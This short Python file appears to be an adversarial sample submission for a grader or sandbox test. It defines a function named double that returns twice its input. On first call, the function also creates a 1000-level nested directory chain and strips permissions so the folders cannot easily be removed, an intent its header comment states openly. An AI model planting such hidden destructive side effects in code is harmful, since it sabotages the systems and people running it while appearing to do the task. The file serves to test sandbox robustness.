# Tries to: leave folders that nobody can remove.
# Earns: double 3, greet 2
import os


def double(number):
    here = os.getcwd()
    if not os.path.exists("deep"):
        os.mkdir("deep")
        os.chdir("deep")
        for _ in range(1000):
            os.mkdir("d")
            os.chdir("d")
        os.chmod(".", 0)
        os.chdir(here)
        os.chmod("deep", 0)
    return 2 * number
